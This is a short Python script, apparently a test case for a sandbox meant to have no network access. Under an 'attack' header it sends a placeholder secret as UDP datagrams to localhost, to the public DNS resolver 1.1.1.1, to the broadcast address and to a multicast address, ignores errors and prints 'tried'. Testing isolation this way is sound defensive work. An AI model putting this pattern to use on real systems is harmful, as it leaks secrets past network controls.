# attack: Sends datagrams, which need no connection, to the host, to a name server and to everybody.
# needs: network=none
import socket

for address in [("127.0.0.1", int("@UDP_PORT@")), ("1.1.1.1", 53), ("255.255.255.255", 9), ("224.0.0.1", 9)]:
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
            sender.sendto(b"@SECRET@", address)
    except OSError:
        pass
print("tried")
